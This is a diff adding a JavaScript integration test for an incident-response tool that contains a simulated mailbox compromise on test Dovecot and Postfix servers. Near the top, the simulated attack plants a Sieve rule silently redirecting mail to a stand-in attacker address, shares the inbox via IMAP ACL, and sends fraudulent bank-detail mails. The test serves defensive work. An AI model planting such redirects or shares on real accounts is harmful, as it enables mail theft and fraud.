@@ -1,0 +1,270 @@
+// Containment on a real mail system: a phished password, sign-ins from abroad, a planted redirect, shared folders, fraudulent mail. Digue
+// collects, tells the story, proposes; operations are planned, approved, sealed, applied, verified and undone on Dovecot and Postfix.
+//
+//   node tests/integration/contain_test.mjs build/release/digue
+import { spawnSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+import { MailServers } from './mail_servers.mjs';
+import { Workbench, close, expect, program, root, same, skip, test } from './workbench.mjs';
+
+if (MailServers.skipped) {
+  skip(`containment on a real mail system: ${MailServers.skipped}`);
+  await close();
+}
+
+const victim = 'marie@chu.test';
+const password = 'Printemps2026';
+const attacker = '198.51.100.23';
+const people = { [victim]: password, 'paul@chu.test': 'paul-pw', 'direction@chu.test': 'd-pw', 'quarantine@chu.test': 'q-pw' };
+const helper = new URL('../../packaging/host/digue-mail-host', import.meta.url).pathname;
+const mail = await MailServers.start(people);
+const sieve = `require ["copy"];\r\n# filtre\r\nredirect :copy "collecte@evil.example";\r\n`;
+
+/** Two weeks of ordinary days from the hospital, as this server writes them. */
+function history() {
+  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
+  let text = '';
+  let n = 0;
+  for (let day = 15; day >= 1; day -= 1)
+    for (const [name] of Object.entries(people))
+      for (const hour of [8, 11, 15]) {
+        const at = new Date(Date.now() - day * 86_400_000);
+        at.setHours(hour, 10 + (n % 40), n % 60);
+        const two = (value) => String(value).padStart(2, '0');
+        text += `${months[at.getMonth()]} ${String(at.getDate()).padStart(2, ' ')} ${two(at.getHours())}:${two(at.getMinutes())}:${two(at.getSeconds())} mx1 dovecot: imap-login: Info: Login: user=<${name}>, method=PLAIN, rip=192.0.2.${10 + (name.length % 5)}, lip=127.0.0.1, mpid=${1000 + n}, TLS, session=<h${n}AAA>\n`;
+        n += 1;
+      }
+  return text;
+}
+
+let stolen; // the attacker's IMAP session, open all along
+await test('the attack: foreign sign-ins, a redirect, a share, fraudulent mail sent and removed', async () => {
+  const local = await mail.signIn(victim, password, '192.0.2.12');
+  expect(local, 'the owner signs in');
+  local.close();
+  await mail.receive('faux-support@evil.example', victim, 'Votre messagerie expire', 'hook@evil.example');
+  stolen = await mail.signIn(victim, password, attacker);
+  expect(stolen, 'the attacker signs in');
+  await stolen.imap('SELECT INBOX');
+  await stolen.imap('FETCH 1:* (BODY.PEEK[])');
+  await stolen.imap('SETACL INBOX paul@chu.test lrwstipekxa');
+  const filters = await mail.sieve(victim, password);
+  filters.send(`PUTSCRIPT "a" {${Buffer.byteLength(sieve)}+}\r\n${sieve}\r\n`);
+  await filters.read(/^(OK|NO).*\r\n/m);
+  filters.send('SETACTIVE "a"\r\n');
+  await filters.read(/^(OK|NO).*\r\n/m);
+  filters.close();
+  same(await mail.submit(victim, password, attacker, victim, ['paul@chu.test', 'direction@chu.test'], 'RIB', 'Nouveau compte'), 250, 'fraud inside');
+  for (let i = 0; i < 3; i += 1) same(await mail.submit(victim, password, attacker, victim, [`client${i}@partner.example`], 'RIB'), 250, 'fraud outside');
+  await mail.receive('labo@partner.example', victim, 'Résultat', 'result@partner.example');
+  await sleep(500);
+  expect(mail.log('dovecot.log').includes('collecte@evil.example'), 'the redirect works');
+  mail.before('dovecot.log', history());
+});
+
+let bench = await Workbench.start(join(root, 'contain'));
+await bench.signIn();
+const incident = await bench.newIncident();
+const at = `/incidents/${incident.id}`;
+await bench.call('POST', `${at}/accounts`, { account: victim, reason: 'signalée' }, 201);
+
+await test('platforms are set up, secrets apart; a test says what would be automatic', async () => {
+  await bench.call('PUT', '/connectors/imap', { kind: 'dovecot', settings: { ...mail.settings('dovecot', helper), api_key: 'test-api-key' } }, 422);
+  await bench.call('PUT', '/connectors/imap', { kind: 'dovecot', settings: mail.settings('dovecot', helper), secrets: { api_key: 'test-api-key' } });
+  await bench.call('PUT', '/connectors/smtp', { kind: 'postfix', settings: mail.settings('postfix', helper) });
+  await bench.call('PUT', '/connectors/x', { kind: 'exchange', settings: {} }, 422);
+  const all = await bench.call('GET', '/connectors');
+  same(all.map((one) => [one.name, one.secrets]), [['imap', ['api_key']], ['smtp', []]], 'platforms');
+  for (const name of ['imap', 'smtp']) {
+    const ready = await bench.call('POST', `/connectors/${name}/test`, {});
+    same(ready.length, 22, 'actions');
+    const block = ready.find((one) => one.action === '1.a');
+    same([block.way, block.capabilities.map((one) => [one.capability, one.way])], ['automatic', [['account.block', 'automatic']]], `${name}: ${JSON.stringify(block)}`);
+    same(ready.find((one) => one.action === '4.b').way, 'guided', 'awareness stays with people');
+  }
+});
+
+const order = (platform, capability, more = {}) => ({ platform, capability, account: victim, parameters: {}, reason: 'compte compromis', evidence: [], ...more });
+const until = async (id, wanted) => {
+  for (let i = 0; i < 600; i += 1) {
+    const one = await bench.call('GET', `${at}/operations/${id}`);
+    if (wanted.includes(one.state)) return one;
+    if (['failed', 'cancelled'].includes(one.state)) throw new Error(`${one.plan.capability}: ${one.state}: ${one.error} ${JSON.stringify(one.probes)}`);
+    await sleep(100);
+  }
+  const one = await bench.call('GET', `${at}/operations/${id}`);
+  throw new Error(`${one.plan.capability} stays ${one.state}: ${JSON.stringify(one.probes)}`);
+};
+const plan = (...all) => bench.call('POST', `${at}/operations`, order(...all), 201);
+const approve = (one, more = {}) => bench.call('POST', `${at}/operations/${one.id}/approval`, more);
+const carry = async (...all) => {
+  const one = await plan(...all);
+  await approve(one, one.needs_two ? { break_glass: true, reason: 'seule de garde' } : {});
+  return until(one.id, ['verified']);
+};
+
+await test('evidence is collected without a manual export, and tells the story', async () => {
+  await bench.upload(incident.id, 'dovecot.log', mail.log('dovecot.log'));
+  const pieces = await bench.call('POST', `${at}/collections`, order('smtp', 'logs.export', { parameters: { since: new Date(Date.now() - 3_600_000).toISOString() } }), 201);
+  expect(pieces.length >= 1, 'pieces');
+  const scripts = await bench.call('POST', `${at}/collections`, order('imap', 'rule.list'), 201);
+  expect(scripts.some((one) => one.name.includes('a')), JSON.stringify(scripts));
+  const job = await bench.call('POST', `${at}/analyses`, {}, 202);
+  for (let i = 0; i < 600; i += 1) {
+    const [state] = (await bench.call('GET', `${at}/jobs`)).filter((one) => one.id === job.id);
+    if (state.state === 'done') break;
+    expect(state.state !== 'failed', state.error);
+    await sleep(100);
+  }
+  const story = await bench.call('GET', `${at}/story`);
+  const account = (story.story ?? story).accounts.find((one) => one.account === victim);
+  expect(['compromised', 'suspected'].includes(account?.verdict), JSON.stringify(account));
+});
+
+const told = Date.now();
+await test('the story proposes, with its evidence and the platforms that can', async () => {
+  const all = await bench.call('GET', `${at}/proposals`);
+  const block = all.find((one) => one.capability === 'account.block' && one.account === victim);
+  same(block.platforms, ['imap', 'smtp'], 'block');
+  expect(block.evidence.length > 0 && block.task, JSON.stringify(block));
+  const rule = all.find((one) => one.capability === 'rule.disable');
+  expect(rule && rule.platforms.includes('imap') && rule.evidence.length > 0, 'rule');
+});
+
+let block;
+await test('a dry run and a plan change nothing', async () => {
+  const before = readFileSync(mail.file('users/passwd'));
+  const tried = await bench.call('POST', `${at}/operations/dry-run`, order('imap', 'account.block'));
+  expect(tried.steps.length > 2, 'steps');
+  block = await plan('imap', 'account.block');
+  expect(block.plan.care.length + block.plan.mail.length > 0, 'effects are said');
+  same(readFileSync(mail.file('users/passwd')), before, 'password file');
+  expect((await stolen.imap('NOOP')).includes('a OK'), 'the attacker is still in');
+  expect(!JSON.stringify(block).includes(password), 'no password in the plan');
+});
+
+await test('the account is blocked: sessions end, every protocol refuses, mail still arrives', async () => {
+  await approve(block);
+  const done = await until(block.id, ['verified']);
+  expect(done.exhibit && done.accepted && done.proven, 'sealed, accepted, proven');
+  const doors = done.probes.map((one) => one.what);
+  for (const door of ['imap', 'managesieve', 'submission']) expect(doors.some((one) => one.startsWith(door)), `${door} in ${doors}`);
+  await carry('smtp', 'account.block');
+  expect(!(await stolen.imap('NOOP')).includes('a OK'), 'the session of the attacker');
+  same(await mail.signIn(victim, password, attacker), null, 'IMAP');
+  same(await mail.sieve(victim, password), null, 'ManageSieve');
+  expect((await mail.submit(victim, password, attacker, victim, ['paul@chu.test'], 'x')) >= 500, 'submission');
+  const before = mail.messages(victim);
+  same(await mail.receive('labo@partner.example', victim, 'Résultat 2', 'result2@partner.example'), 250, 'delivery');
+  await sleep(500);
+  same(mail.messages(victim), before + 1, 'mail arrives');
+});
+
+await test('password, sessions, rule and share are dealt with and proven', async () => {
+  const reset = await carry('imap', 'password.reset');
+  same(await mail.signIn(victim, password, '192.0.2.12'), null, 'the old password');
+  const secret = (await bench.call('POST', `${at}/operations/${reset.id}/password`, {})).password;
+  same(await mail.signIn(victim, secret, '192.0.2.12'), null, 'still blocked');
+  await bench.call('POST', `${at}/operations/${reset.id}/password`, {}, 404);
+  await carry('imap', 'session.revoke');
+  await carry('imap', 'rule.disable');
+  await mail.receive('labo@partner.example', victim, 'Résultat 3', 'result3@partner.example');
+  await sleep(500);
+  expect(!mail.log('dovecot.log').split('result3@')[1].includes('collecte@evil'), 'nothing is redirected any more');
+  await carry('imap', 'delegation.remove', { parameters: { identifier: 'user=paul@chu.test' } });
+  console.log(`     from the story to the last verified P0 operation: ${((Date.now() - told) / 1000).toFixed(1)} s`);
+  people.secret = secret;
+});
+
+await test('queued fraud is held, a sender is blocked until a date, and both are undone', async () => {
+  const queue = () => spawnSync('postqueue', ['-c', mail.file('postfix'), '-j'], { encoding: 'utf8' }).stdout.trim().split('\n').filter(Boolean).map((line) => JSON.parse(line));
+  const fraud = () => queue().filter((one) => one.sender === victim);
+  same(fraud().filter((one) => one.queue_name !== 'hold').length, 3, 'waiting');
+  const hold = await carry('smtp', 'queue.hold', { parameters: { sender: victim } });
+  same(fraud().map((one) => one.queue_name), ['hold', 'hold', 'hold'], 'held');
+  await bench.call('POST', `${at}/operations`, order('smtp', 'sender.block', { account: '', parameters: { sender: 'faux-support@evil.example' } }), 422);
+  const sender = await carry('smtp', 'sender.block', { account: '', parameters: { sender: 'faux-support@evil.example' }, until: new Date(Date.now() + 7 * 86_400_000).toISOString() });
+  expect(sender.dues.some((one) => one.what === 'lift'), 'lifted by itself later');
+  expect((await mail.receive('faux-support@evil.example', victim, 'encore', 'again@evil.example')) >= 500, 'refused at the door');
+  for (const one of [hold, sender]) {
+    const undo = await bench.call('POST', `${at}/operations/${one.id}/undo`, { reason: 'essai' }, 201);
+    await approve(undo);
+    await until(undo.id, ['verified']);
+    same((await bench.call('GET', `${at}/operations/${one.id}`)).state, 'undone', 'state');
+  }
+  same(fraud().filter((one) => one.queue_name === 'hold').length, 0, 'released');
+  same(await mail.receive('faux-support@evil.example', victim, 'encore', 'again2@evil.example'), 250, 'accepted again');
+});
+
+await test('undo restores the script byte for byte; unblocking leaves the new password', async () => {
+  const all = await bench.call('GET', `${at}/operations`);
+  const find = (platform, capability) => all.find((one) => one.platform === platform && one.plan.capability === capability && !one.undoes);
+  for (const one of [find('imap', 'rule.disable'), find('smtp', 'account.block'), find('imap', 'account.block')]) {
+    const undo = await bench.call('POST', `${at}/operations/${one.id}/undo`, { reason: 'doute levé' }, 201);
+    if (one.plan.capability === 'account.block') expect(undo.plan.notes.some((note) => note.fr.includes('1.c')), 'what the card wants first is said');
+    await approve(undo);
+    await until(undo.id, ['verified']);
+  }
+  same(mail.doveadm('sieve', 'get', '-u', victim, 'a').stdout, sieve.replaceAll('\r\n', '\n'), 'script');
+  same(await mail.signIn(victim, password, attacker), null, 'the stolen password');
+  const owner = await mail.signIn(victim, people.secret, '192.0.2.12');
+  expect(owner, 'the new password');
+  owner.close();
+});
+
+await test('killed at any moment, an operation ends as it would have, and nothing is done twice', async () => {
+  const before = readFileSync(mail.file('users/passwd'), 'utf8');
+  const paul = { account: 'paul@chu.test' };
+  for (let i = 0; i < 8; i += 1) {
+    const one = await plan('imap', 'account.block', paul);
+    await approve(one);
+    await sleep(i * 150);
+    await bench.kill('SIGKILL');
+    bench = await Workbench.start(join(root, 'contain'));
+    await bench.signIn();
+    const done = await until(one.id, ['verified']);
+    expect(done.runs.every((run) => run.state === 'done'), JSON.stringify(done.runs));
+    same(await mail.signIn('paul@chu.test', 'paul-pw', '192.0.2.9'), null, 'blocked');
+    const undo = await bench.call('POST', `${at}/operations/${one.id}/undo`, { reason: 'essai' }, 201);
+    await approve(undo);
+    await until(undo.id, ['verified']);
+    same(readFileSync(mail.file('users/passwd'), 'utf8'), before, 'password file');
+  }
+});
+
+await test('two at once, a state that changed, a server that is away: said, and nothing half done', async () => {
+  const one = await plan('imap', 'account.block', { account: 'direction@chu.test' });
+  await bench.call('POST', `${at}/operations/${(await plan('imap', 'password.reset', { account: 'direction@chu.test' })).id}/approval`, {}, 409);
+  const passwd = mail.file('users/passwd');
+  const changed = readFileSync(passwd, 'utf8').replace('{PLAIN}d-pw', '{PLAIN}d-pw2');
+  const { writeFileSync } = await import('node:fs');
+  writeFileSync(passwd, changed);
+  await approve(one);
+  for (let i = 0; i < 100 && (await bench.call('GET', `${at}/operations/${one.id}`)).state !== 'failed'; i += 1) await sleep(100);
+  const failed = await bench.call('GET', `${at}/operations/${one.id}`);
+  same(failed.state, 'failed', 'stale');
+  same(readFileSync(passwd, 'utf8'), changed, 'password file');
+  await bench.call('POST', `${at}/operations`, order('imap', 'account.block', { account: 'nobody@chu.test' }), 404);
+  await bench.call('PUT', '/connectors/away', { kind: 'dovecot', settings: { ...mail.settings('dovecot', helper), url: `http://127.0.0.1:${mail.ports.closed}/doveadm/v1` }, secrets: { api_key: 'x' } });
+  const away = await bench.request('POST', `/api/v1${at}/operations`, { body: JSON.stringify(order('away', 'account.block')), headers: { 'Content-Type': 'application/json' } });
+  expect(away.status >= 500, `${away.status} ${away.text}`);
+});
+
+await test('the terminal does the same; the main courante and the package verify', async () => {
+  const cli = (...words) => spawnSync(program, [...words, '--data', join(root, 'contain'), '--json'], { encoding: 'utf8' });
+  const list = cli('operation', 'list', incident.id);
+  same(list.status, 0, list.stderr);
+  expect(JSON.parse(list.stdout).length > 20, 'operations');
+  const verify = cli('journal', 'verify', incident.id);
+  same(verify.status, 0, verify.stdout + verify.stderr);
+  const lines = (await bench.journal(incident.id)).map((one) => one.about);
+  for (const about of ['operation.planned', 'operation.approved', 'operation.sealed', 'operation.step', 'operation.verified', 'operation.undone', 'operation.failed'])
+    expect(lines.includes(about), about);
+  expect(!JSON.stringify(await bench.journal(incident.id)).includes(people.secret), 'no password in the main courante');
+});
+
+await mail.stop();
+await close();
